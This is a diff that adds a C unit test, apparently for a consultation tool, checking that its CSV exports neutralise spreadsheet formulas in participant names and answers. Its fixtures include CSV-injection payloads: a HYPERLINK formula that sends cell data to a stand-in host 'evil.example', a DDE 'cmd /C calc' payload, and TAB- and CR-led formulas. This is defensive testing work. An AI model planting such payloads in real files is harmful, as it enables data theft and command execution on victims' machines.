@@ -106,17 +106,26 @@ db_prepare(sqlite3 *db, const char *sql, const char *arg, const char *arg2)
 	return st;
 }
 
-/* The first column of the first row, ?1 bound to arg; NULL: no row. */
+/*
+ * The first column of the first row, ?1 and ?2 bound to arg and arg2
+ * (either may be NULL); NULL when there is no row.
+ */
 static char *
-db_text(sqlite3 *db, const char *sql, const char *arg)
+db_text2(sqlite3 *db, const char *sql, const char *arg, const char *arg2)
 {
-	sqlite3_stmt *st = db_prepare(db, sql, arg, NULL);
+	sqlite3_stmt *st = db_prepare(db, sql, arg, arg2);
 	char *v = NULL;
 
 	if (sqlite3_step(st) == SQLITE_ROW && sqlite3_column_text(st, 0))
 		v = g_strdup((const char *)sqlite3_column_text(st, 0));
 	sqlite3_finalize(st);
 	return v;
+}
+
+static char *
+db_text(sqlite3 *db, const char *sql, const char *arg)
+{
+	return db_text2(db, sql, arg, NULL);
 }
 
 /* The same for an integer, ?1 and ?2 bound to arg and arg2; -1: no row. */
@@ -1262,6 +1271,351 @@ START_TEST(test_inject_spoofing_changes_no_answer)
 }
 END_TEST
 
+/* What a spreadsheet would run as a formula (LIBRARY-NOTES V6). */
+static bool
+formula_led(const char *v)
+{
+	return v[0] && strchr("=+-@\t\r", v[0]);
+}
+
+/* v as csvio reads it back: CRLF and CR become LF. */
+static char *
+lf_form(const char *v)
+{
+	GString *out = g_string_new(NULL);
+	const char *p;
+
+	for (p = v; *p; p++) {
+		if (p[0] == '\r' && p[1] == '\n')
+			continue;
+		g_string_append_c(out, *p == '\r' ? '\n' : *p);
+	}
+	return g_string_free(out, FALSE);
+}
+
+static bool
+collect_row(const struct csvio_row *row, void *data, GError **err)
+{
+	GPtrArray *rows = data;
+	GPtrArray *cells = g_ptr_array_new_with_free_func(g_free);
+	size_t i;
+
+	(void)err;
+	for (i = 0; i < row->nfields; i++)
+		g_ptr_array_add(cells, g_strdup(row->fields[i]));
+	g_ptr_array_add(rows, cells);
+	return true;
+}
+
+/* The rows (GPtrArray of cells) of a CSV text, read back with csvio. */
+static GPtrArray *
+read_csv(const char *buf, size_t len)
+{
+	GPtrArray *rows = g_ptr_array_new_with_free_func(
+	    (GDestroyNotify)g_ptr_array_unref);
+	g_autoptr(GError) err = NULL;
+
+	ck_assert_msg(csvio_read_buffer(buf, len, collect_row, rows, &err),
+	    "export is not CSV: %s", err ? err->message : "");
+	return rows;
+}
+
+struct export_tally {
+	unsigned files;
+	unsigned cells;
+	unsigned formula_cells;		/* values a spreadsheet would run */
+	unsigned neutralised;		/* of those, written with a "'" */
+	unsigned tab_cr;		/* neutralised values led by TAB or CR */
+	unsigned unguarded;		/* cells that start a formula */
+	unsigned mismatched;		/* cells not the stored value */
+	GString *problems;
+};
+
+static void
+export_problem(struct export_tally *t, unsigned *counter, const char *what,
+    const char *cell)
+{
+	(*counter)++;
+	if (t->problems->len < 2000)
+		g_string_append_printf(t->problems, "\n  %s: '%.60s'", what,
+		    cell);
+}
+
+/* One exported cell against the stored value it shows. */
+static void
+export_cell(struct export_tally *t, const char *cell, const char *value)
+{
+	g_autofree char *guarded = formula_led(value) ?
+	    g_strconcat("'", value, NULL) : g_strdup(value);
+	g_autofree char *want = lf_form(guarded);
+
+	t->cells++;
+	if (formula_led(cell))
+		export_problem(t, &t->unguarded, "formula", cell);
+	if (strcmp(cell, want) != 0)
+		export_problem(t, &t->mismatched, "not the stored value", cell);
+	else if (formula_led(value)) {
+		t->neutralised++;
+		t->tab_cr += value[0] == '\t' || value[0] == '\r';
+	}
+	t->formula_cells += formula_led(value);
+}
+
+static const char *const wide_head[] = {
+	"email", "name", "stakeholder_group", "bpf", "role", "language",
+	"Q1", "Q2", "Q3", "R1", NULL
+};
+static const char *const long_head[] = {
+	"email", "question", "answer", "answered_at", "message_id", "source",
+	NULL
+};
+
+static unsigned
+head_len(const char *const *head)
+{
+	unsigned n = 0;
+
+	while (head[n])
+		n++;
+	return n;
+}
+
+static char *
+stored_answer(sqlite3 *db, const char *email, const char *qid)
+{
+	char *v = db_text2(db, "SELECT coalesce((SELECT a.answer FROM answer"
+	    " a JOIN participant p ON p.id = a.participant_id JOIN question q"
+	    " ON q.id = a.question_id WHERE p.email = ?1 AND q.qid = ?2"
+	    " AND a.current = 1), '')", email, qid);
+
+	ck_assert_ptr_nonnull(v);
+	return v;
+}
+
+/* The value a wide export shows for email in column col (ours). */
+static char *
+stored_wide(sqlite3 *db, const char *email, const char *col)
+{
+	g_autofree char *sql = NULL;
+	char *v;
+
+	if (strcmp(col, "email") == 0)
+		return g_strdup(email);
+	if (strcmp(col, "bpf") == 0)
+		v = db_text(db, "SELECT coalesce((SELECT group_concat(bpf, ';')"
+		    " FROM (SELECT b.bpf FROM participant_bpf b JOIN"
+		    " participant p ON p.id = b.participant_id"
+		    " WHERE p.email = ?1 ORDER BY b.bpf)), '')", email);
+	else if (g_ascii_isupper(col[0]))
+		return stored_answer(db, email, col);
+	else {
+		sql = g_strdup_printf("SELECT coalesce(%s, '') FROM"
+		    " participant WHERE email = ?", col);
+		v = db_text(db, sql, email);
+	}
+	ck_assert_msg(v != NULL, "no %s for %s", col, email);
+	return v;
+}
+
+/* A whole export, header included, against the database. */
+static void
+export_check(struct export_tally *t, sqlite3 *db, const char *buf,
+    size_t len, bool wide)
+{
+	const char *const *head = wide ? wide_head : long_head;
+	g_autoptr(GPtrArray) rows = read_csv(buf, len);
+	GPtrArray *cells;
+	size_t r, c;
+
+	t->files++;
+	ck_assert_uint_ge(rows->len, 1);
+	cells = rows->pdata[0];
+	ck_assert_uint_eq(cells->len, head_len(head));
+	for (c = 0; c < cells->len; c++)
+		ck_assert_str_eq(cells->pdata[c], head[c]);
+	ck_assert_int_eq(rows->len - 1, db_int(db, wide ? "SELECT count(*)"
+	    " FROM participant" : "SELECT count(*) FROM answer"
+	    " WHERE current = 1", NULL));
+	for (r = 1; r < rows->len; r++) {
+		cells = rows->pdata[r];
+		ck_assert_uint_eq(cells->len, head_len(head));
+		for (c = 0; c < cells->len; c++) {
+			g_autofree char *v = NULL;
+
+			if (wide)
+				v = stored_wide(db, cells->pdata[0], head[c]);
+			else if (c == 2)
+				v = stored_answer(db, cells->pdata[0],
+				    cells->pdata[1]);
+			else
+				v = g_strdup(cells->pdata[c]);
+			export_cell(t, cells->pdata[c], v);
+		}
+	}
+}
+
+static char *
+read_whole(const char *dir, const char *name, size_t *len_out)
+{
+	g_autofree char *path = g_build_filename(dir, name, NULL);
+	char *data = NULL;
+	gsize len;
+
+	ck_assert(g_file_get_contents(path, &data, &len, NULL));
+	*len_out = len;
+	return data;
+}
+
+/* The text/csv attachment of a digest printed by digest --dry-run. */
+static GByteArray *
+digest_csv(const char *raw)
+{
+	GMimeMessage *msg = parse_mail(raw, strlen(raw));
+	GMimePartIter *it;
+	GByteArray *out = NULL;
+
+	ck_assert_ptr_nonnull(msg);
+	it = g_mime_part_iter_new(GMIME_OBJECT(msg));
+	do {
+		GMimeObject *part = g_mime_part_iter_get_current(it);
+		GMimeStream *mem;
+		GByteArray *bytes;
+
+		if (!GMIME_IS_PART(part) || !g_mime_content_type_is_type(
+		    g_mime_object_get_content_type(part), "text", "csv"))
+			continue;
+		mem = g_mime_stream_mem_new();
+		g_mime_data_wrapper_write_to_stream(g_mime_part_get_content(
+		    GMIME_PART(part)), mem);
+		bytes = g_mime_stream_mem_get_byte_array(GMIME_STREAM_MEM(mem));
+		out = g_byte_array_new();
+		g_byte_array_append(out, bytes->data, bytes->len);
+		g_object_unref(mem);
+	} while (!out && g_mime_part_iter_next(it));
+	g_mime_part_iter_free(it);
+	g_object_unref(msg);
+	ck_assert_msg(out != NULL, "the digest has no CSV attachment");
+	return out;
+}
+
+/* Formula-led names, groups, roles, languages, BPFs and answers. */
+static const char export_people[] =
+    "email,name,stakeholder_group,bpf,role,language\n"
+    "f1@example.org,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,"
+    "\"\"Click\"\")\",+Government,=1+1;Safe,-Contributor,@en\n"
+    "f2@example.org,+1-1,@Academia,-2;+3,\"=cmd|' /C calc'!A0\",-fr\n"
+    "f3@example.org,@SUM(A1:A9),=Civil society,@x,+role,=es\n"
+    "f4@example.org,-3+3,Safe group,Safe,Safe,en\n"
+    "f5@example.org,Plain Name,Safe,Safe,Safe,en\n";
+
+static const char *const export_answers[][3] = {
+	{ "=1+1", "+SUM(1)", "-1" },
+	{ "@A1", "=HYPERLINK(\"http://evil.example\")", "\t=2+2" },
+	{ "safe", "-", "=" },
+	{ "- a list\n- of points", "@someone", "fine" },
+};
+
+/* Part (c): no exported cell starts a formula; each shows its value. */
+START_TEST(test_inject_export_neutralises_formulas)
+{
+	struct export_tally t = { 0 };
+	g_autofree char *csv = NULL;
+	g_autofree char *out = NULL;
+	g_autofree char *digest = NULL;
+	g_autoptr(GByteArray) attached = NULL;
+	static const char *const files[] = {
+		"wide.csv", "long.csv", "wide-excel.csv", "long-excel.csv"
+	};
+	char *dir;
+	sqlite3 *db;
+	size_t i;
+
+	g_mime_init();
+	t.problems = g_string_new(NULL);
+	dir = make_workspace(NULL);
+	write_definition(dir, "inj", "Review", "Consent");
+	set_now(NOW - DAY);
+	RUN(dir, "load", "def/inj");
+	csv = testutil_write(dir, "p.csv", export_people);
+	RUN(dir, "import", "inj", csv);
+	set_now(NOW);
+	RUN(dir, "invite", "inj");
+	set_now(NOW + 3600);
+	for (i = 0; i < G_N_ELEMENTS(export_answers); i++) {
+		g_autofree char *email = g_strdup_printf("f%zu@example.org",
+		    i + 1);
+		g_autofree char *token = token_of(dir, email);
+		g_autofree char *name = g_strdup_printf("f%zu.eml", i + 1);
+		g_autofree char *text = g_strdup_printf("From: %s\n"
+		    "To: consult+%s@example.org\nSubject: Re\n"
+		    "Message-ID: <f%zu@example.org>\n\n[Q1] %s\n\n[Q2] %s\n\n"
+		    "[Q3] %s\n\n[R1] 4\n\n[END]\n", email, token, i,
+		    export_answers[i][0], export_answers[i][1],
+		    export_answers[i][2]);
+
+		g_free(testutil_write(dir, name, text));
+		RUN(dir, "ingest", name);
+	}
+	/* Values led by TAB or CR, as another way in could store them. */
+	db = db_open(dir);
+	ck_assert_int_eq(sqlite3_exec(db, "UPDATE participant SET name ="
+	    " char(9) || '=TAB()' WHERE email = 'f5@example.org';"
+	    "UPDATE answer SET answer = char(13) || '=CR()' WHERE current = 1"
+	    " AND participant_id = (SELECT id FROM participant"
+	    " WHERE email = 'f3@example.org') AND question_id = (SELECT id"
+	    " FROM question WHERE qid = 'Q1');"
+	    "UPDATE answer SET answer = char(9) || '+tab' WHERE current = 1"
+	    " AND participant_id = (SELECT id FROM participant"
+	    " WHERE email = 'f4@example.org') AND question_id = (SELECT id"
+	    " FROM question WHERE qid = 'Q3');", NULL, NULL, NULL), SQLITE_OK);
+	sqlite3_close(db);
+
+	set_now(NOW + 7200);
+	RUN(dir, "export", "inj", "-o", "wide.csv");
+	RUN(dir, "export", "inj", "--format", "long", "-o", "long.csv");
+	RUN(dir, "export", "inj", "--excel", "-o", "wide-excel.csv");
+	RUN(dir, "export", "inj", "--format", "long", "--excel", "-o",
+	    "long-excel.csv");
+	out = run_ok(dir, (const char *const[]){ "export", "inj", NULL });
+	digest = run_ok(dir, (const char *const[]){ "digest", "inj",
+	    "--dry-run", NULL });
+	attached = digest_csv(digest);
+
+	db = db_open(dir);
+	for (i = 0; i < G_N_ELEMENTS(files); i++) {
+		size_t len;
+		g_autofree char *data = read_whole(dir, files[i], &len);
+
+		if (strstr(files[i], "excel")) {
+			ck_assert(g_str_has_prefix(data, "\xef\xbb\xbf"));
+			ck_assert(strstr(data, "\"\r\n") != NULL);
+		}
+		export_check(&t, db, data, len, g_str_has_prefix(files[i],
+		    "wide"));
+	}
+	export_check(&t, db, out, strlen(out), true);
+	export_check(&t, db, (const char *)attached->data, attached->len,
+	    true);
+	sqlite3_close(db);
+
+	testutil_report("export", "files=%u cells=%u formula_cells=%u "
+	    "neutralised=%u tab_cr_led=%u unguarded=%u mismatched=%u",
+	    t.files, t.cells, t.formula_cells, t.neutralised, t.tab_cr,
+	    t.unguarded, t.mismatched);
+	ck_assert_msg(t.unguarded + t.mismatched == 0, "export:%s",
+	    t.problems->str);
+	ck_assert_uint_eq(t.neutralised, t.formula_cells);
+	/* TAB- and CR-led values were among them, in every file. */
+	ck_assert_uint_ge(t.tab_cr, 2 * t.files);
+
+	g_string_free(t.problems, TRUE);
+	testutil_rmtree(dir);
+	g_free(dir);
+	g_unsetenv("CONSULTD_NOW");
+	g_mime_shutdown();
+}
+END_TEST
+
 Suite *
 inject_suite(void)
 {
@@ -1275,6 +1629,10 @@ inject_suite(void)
 	tc = tcase_create("spoofing");
 	tcase_set_timeout(tc, 90);
 	tcase_add_test(tc, test_inject_spoofing_changes_no_answer);
+	suite_add_tcase(s, tc);
+	tc = tcase_create("export");
+	tcase_set_timeout(tc, 60);
+	tcase_add_test(tc, test_inject_export_neutralises_formulas);
 	suite_add_tcase(s, tc);
 	return s;
 }
